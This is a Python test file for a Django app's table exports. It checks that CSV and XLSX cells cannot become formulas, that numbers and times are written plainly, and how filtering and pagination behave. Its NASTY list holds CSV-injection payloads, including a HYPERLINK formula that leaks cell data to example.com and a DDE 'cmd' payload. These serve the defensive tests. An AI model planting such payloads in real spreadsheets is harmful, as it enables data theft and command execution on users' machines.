"""Lists taken along: no cell is a formula, numbers stay numbers, times are written out; pages by the address."""

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal

import django_tables2 as tables
import pytest
from django import forms
from django.template.loader import render_to_string
from django.test import RequestFactory
from openpyxl import load_workbook

from plant.lists import ROWS, HouseTable, RowFilter, is_within, list_page, plain_cell
from tests import builders

pytestmark = pytest.mark.django_db
# Heads of formulas and the payloads of OWASP's page "CSV Injection" (from memory), bare, behind blanks and behind signs
# that are not seen; full-width forms are taken for the narrow ones by a spreadsheet set to some languages.
NASTY = [
    "=1+1",
    "+1",
    "-1",
    "@sum(a1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    "\nplain",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://example.com?leak="&A1,"Error")',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "   -1",
    "\xa0+1",
    "\u3000@sum(a1)",
    "\u200b=1",
    "\ufeff=1",
    " \t \x0b=1",
    "\x00=1",
    "\x7f=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20sum(a1)",
]
PLAIN = ["a=b", "2 - 1", "Osier", "  Sedge", "'=1", "3 kg", ""]


class Few(HouseTable):
    word = tables.Column()
    count = tables.Column()
    at = tables.Column()


@pytest.fixture(autouse=True)
def works():
    builders.a_works()


def page(rows, **asked):
    return list_page(RequestFactory().get("/", asked), Few(rows), name="few")


def rows(words):
    return [{"word": word, "count": -n, "at": datetime(2026, 7, 1, 8, tzinfo=UTC)} for n, word in enumerate(words)]


def as_kept(word):
    """A sign that no workbook holds is shown as replaced."""
    return re.sub("[\x00\x0b]", "\N{REPLACEMENT CHARACTER}", word)


def test_no_cell_of_a_csv_file_is_taken_for_a_formula():
    told = list(csv.reader(io.StringIO(page(rows(NASTY), form="csv").file.content.decode(), newline="")))
    assert [line[0] for line in told[1:]] == [f"'{as_kept(word)}" for word in NASTY]
    assert told[1][2] == "2026-07-01T09:00:00+01:00"


def test_no_cell_of_a_workbook_is_a_formula_and_numbers_stay_numbers():
    book = load_workbook(io.BytesIO(page(rows(NASTY), form="xlsx").file.content))
    lines = [list(line) for line in book.active.rows][1:]
    assert all(line[0].data_type == "s" and line[0].value.startswith("'") for line in lines)
    assert [line[1].value for line in lines] == [-n for n in range(len(NASTY))]


def test_what_is_no_formula_stays_as_it_was_written():
    assert [plain_cell(word) for word in PLAIN] == PLAIN


def test_a_separator_and_quotes_begin_no_cell_of_their_own():
    told = list(
        csv.reader(io.StringIO(page(rows(['"1",=1', "a\r\n=1"]), form="csv").file.content.decode(), newline=""))
    )
    assert [line[0] for line in told[1:]] == ['"1",=1', "a\r\n=1"]
    assert {len(line) for line in told} == {3}


class ByWord(RowFilter):
    word = forms.ChoiceField(label="Word", choices=[("", "Every word"), ("one", "The first"), ("two", "The second")])
    day = forms.DateField(label="Day")

    def fits(self, row, asked):
        return asked["word"] in ("", None, row["word"])


def narrowed(**asked):
    request = RequestFactory().get("/", asked)
    asks = ByWord(request.GET)
    some = rows(["one", "two", "two"])
    return list_page(request, Few(asks.kept(some)), name="few", filtered=asks, total=len(some))


def drawn(found):
    return render_to_string("parts/list.html", {"list": found, "request": RequestFactory().get("/")})


def test_a_narrowed_list_tells_how_many_of_how_many_and_by_what():
    found = narrowed(word="two")
    assert (found.count, found.total, found.narrowed) == (2, 3, [("Word", "The second")])
    assert "<b>2</b> found of 3" in drawn(found)
    assert "found of" not in drawn(narrowed())


def test_what_cannot_be_read_narrows_nothing_and_is_told_at_its_field():
    found = narrowed(day="soon")
    assert (found.count, found.is_filtered) == (3, False)
    assert "This is no day: write 2026-12-31." in drawn(found)


def test_a_list_with_nothing_on_it_asks_for_nothing_and_says_why():
    few = Few([])
    few.nothing = "None came yet."
    asks = ByWord(RequestFactory().get("/").GET)
    page = drawn(list_page(RequestFactory().get("/"), few, name="few", filtered=asks, total=0))
    assert "None came yet." in page
    assert "<form" not in page


def test_a_page_holds_so_many_rows_and_a_file_all_of_them():
    many = rows([f"row {n:03d}" for n in range(ROWS + 7)])
    second = page(many, page="2", sort="word")
    assert [row.record["word"] for row in second.table.paginated_rows] == [
        f"row {n:03d}" for n in range(ROWS, ROWS + 7)
    ]
    assert second.count == ROWS + 7
    assert len(page(many, form="csv", page="2").file.content.decode().splitlines()) == ROWS + 8
    assert page(many, page="99").table.page.number == 2


def test_a_day_a_truth_and_nothing_are_written_plainly():
    told = page([{"word": date(2026, 3, 1), "count": True, "at": None}], form="csv").file.content.decode()
    assert told.splitlines()[1] == "2026-03-01,yes,"


def test_a_sign_that_a_workbook_cannot_hold_does_not_lose_the_file():
    odd = [{"word": "a\x0bb", "count": Decimal("-1.5"), "at": None}]
    book = load_workbook(io.BytesIO(page(odd, form="xlsx").file.content))
    line = [cell.value for cell in list(book.active.rows)[1]]
    assert line[:2] == ["a\N{REPLACEMENT CHARACTER}b", -1.5]


@pytest.mark.parametrize(
    ("since", "until", "fits"),
    [
        (None, None, True),
        (date(2026, 6, 10), date(2026, 6, 10), True),
        (date(2026, 6, 11), None, False),
        (None, date(2026, 6, 9), False),
    ],
)
def test_days_asked_for_are_those_of_the_works_both_ends_included(since, until, fits):
    # The clocks of these works stand an hour ahead of UTC in summer: there it is the 10th.
    assert is_within(datetime(2026, 6, 9, 23, 30, tzinfo=UTC), since, until) is fits


def drawn_whole(many, **asked):
    request = RequestFactory().get("/", asked)
    told = list_page(request, Few(many), name="few")
    return render_to_string("parts/list.html", {"list": told}, request)


def test_a_paper_copy_of_some_rows_says_so_and_all_can_stand_on_one_page(monkeypatch):
    many = rows([f"row {n:03d}" for n in range(ROWS + 7)])
    first = drawn_whole(many)
    assert f"Rows 1 to {ROWS} of {ROWS + 7}" in first
    assert "The others are not on this paper." in first
    assert "?rows=all" in first
    whole = drawn_whole(many, rows="all", page="2")
    assert whole.count("<tr") == ROWS + 8
    assert "not on this paper" not in whole
    assert "In pages again" in whole
    assert "rows=all" not in drawn_whole(many[:ROWS])
    monkeypatch.setattr("plant.lists.MOST_ROWS", ROWS + 6)
    assert "rows=all" not in drawn_whole(many)
    assert "The others are not on this paper." in drawn_whole(many, rows="all")


@pytest.mark.parametrize("asked", ["0", "-3", "10000000"])
def test_the_address_alone_gives_no_other_number_of_rows(asked):
    many = rows([f"row {n:03d}" for n in range(ROWS + 7)])
    assert drawn_whole(many, per_page=asked).count("<tr") == ROWS + 1
